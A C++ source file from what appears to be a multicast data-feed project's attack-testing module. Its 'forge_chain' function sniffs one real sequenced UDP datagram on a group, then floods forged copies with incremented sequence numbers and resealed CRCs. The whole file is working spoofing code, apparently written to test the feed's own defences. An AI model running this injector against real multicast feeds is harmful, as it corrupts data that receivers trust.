// Attacks anyone on a UDP feed's group can make: a gapless forged run.
#include <fmt/format.h>
#include <poll.h>
#include <sys/socket.h>

#include <cstdio>
#include <vector>

#include "attack.hpp"
#include "mdcast/core/error.hpp"
#include "mdcast/media/udp/udp_socket.hpp"
#include "mdcast/wire/datagram.hpp"

namespace mdcast::attack {

int forge_chain(const std::string& group, const std::string& interface, double seconds, unsigned per_ms) {
  namespace udp = media::udp;
  const udp::Interface iface = udp::find_interface(interface);
  const udp::GroupAddress g = udp::GroupAddress::parse(group);
  udp::Options o;
  o.rail_a = {group, interface};
  o.loop = true;
  // One datagram per read: with GRO a busy moment coalesces several real
  // datagrams into one read, and the forger would resend the whole batch as
  // one malformed datagram (counted sub.malformed, not at the tag).
  o.gro = false;
  bool gro = false;
  const UniqueFd rx = udp::open_receiver(iface, g, o, 65536, &gro);
  const UniqueFd tx = udp::open_sender(iface, g, o, 65536);
  fmt::print("forge-chain: {} on {}: one real sequenced datagram heard, then the next sequences, {} a ms, for {} s\n",
             group, interface, per_ms, seconds);
  std::fflush(stdout);
  // Sniff: the first sequenced datagram of a session (what anyone on the group sees).
  std::vector<std::byte> d(65536);
  ssize_t n = -1;
  const uint64_t give_up = monotonic_ns() + 30 * kNsPerSec;
  while (!g_stop && monotonic_ns() < give_up) {
    pollfd p{rx.get(), POLLIN, 0};
    if (::poll(&p, 1, 100) <= 0) continue;
    n = ::recv(rx.get(), d.data(), d.size(), 0);
    if (n < static_cast<ssize_t>(wire::dgram::kHeaderSize)) continue;
    if (wire::read_header(d.data()).sequenced()) break;
    n = -1;
  }
  if (n < 0) fail("forge-chain: no sequenced datagram heard on {} within 30 s", group);
  d.resize(static_cast<size_t>(n));
  wire::DatagramHeader h = wire::read_header(d.data());
  const uint64_t first = h.sequence + 1;
  fmt::print("ready sniffed session={:016x} sequence={}\n", h.session, h.sequence);
  std::fflush(stdout);
  uint64_t next = first, sent = 0, refused = 0;
  const uint64_t t0 = monotonic_ns();
  const uint64_t end = t0 + static_cast<uint64_t>(seconds * 1e9);
  while (!g_stop && monotonic_ns() < end) {
    // per_ms a millisecond, as fast as the socket takes them within it. The
    // clock is read at every send too: where sending costs more than the
    // schedule allows (a bridge in network namespaces cloning each datagram
    // to every port, on a loaded machine), the backlog would otherwise keep
    // the forger sending for seconds past `seconds`, past the feed's end.
    const uint64_t due = (monotonic_ns() - t0) / kNsPerMs * per_ms + per_ms;
    while (sent + refused < due && monotonic_ns() < end) {
      h.sequence = next++;
      wire::write_header(d.data(), h);
      if (h.flags & wire::kFlagCrc) wire::seal_crc(d);
      if (::send(tx.get(), d.data(), d.size(), 0) == static_cast<ssize_t>(d.size())) ++sent;
      else ++refused;
    }
    sleep_ms(1);
  }
  Report()
      .add("seconds", static_cast<double>(monotonic_ns() - t0) / 1e9)
      .add("first", first)
      .add("last", next - 1)
      .add("sent", sent)
      .add("refused", refused)
      .print();
  return 0;
}

}  // namespace mdcast::attack
